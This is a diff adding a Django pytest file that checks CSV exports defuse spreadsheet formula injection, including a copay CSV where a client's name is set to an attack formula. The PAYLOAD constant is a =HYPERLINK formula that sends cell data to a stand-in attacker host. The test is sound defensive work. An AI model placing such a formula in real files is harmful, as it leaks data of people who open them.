@@ -1,0 +1,54 @@
+"""Finding 7 (docs/security.md): no CSV cell runs as a spreadsheet formula."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from django.test import Client
+from django.urls import reverse
+from django.utils import timezone
+
+from casebook.common.csv import csv_text, safe_cell
+from casebook.experts import services
+
+PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"詳細")'
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_text_cell_that_would_start_a_formula_is_written_as_text(start):
+    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
+
+
+def test_numbers_and_plain_text_are_written_as_they_are():
+    assert safe_cell(-5) == -5
+    assert safe_cell("株式会社テスト") == "株式会社テスト"
+    rows = list(csv.reader(io.StringIO(csv_text(["名前"], [["=1+1", 3]]))))
+    assert rows == [["名前"], ["'=1+1", "3"]]
+
+
+def test_a_client_named_like_a_formula_reaches_the_copay_csv_as_text(cast, setting, requested):
+    client_record = setting.case.client
+    client_record.name = PAYLOAD
+    client_record.save(update_fields=["name"])
+    services.dispatch_approve(dispatch=requested, by=setting.dispatch_coordinator)
+    services.visit_schedule(
+        dispatch=requested,
+        by=setting.dispatch_coordinator,
+        date=timezone.localdate(),
+        day_fraction="1.0",
+    )
+    services.dispatch_complete(dispatch=requested, by=setting.dispatch_coordinator)
+    web = Client()
+    web.force_login(setting.dispatch_coordinator)
+    response = web.get(
+        reverse("experts:copay_csv"), {"month": timezone.localdate().strftime("%Y-%m")}
+    )
+    cells = [
+        cell
+        for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
+        for cell in row
+    ]
+    assert "'" + PAYLOAD in cells
+    assert not any(cell.startswith("=") for cell in cells)
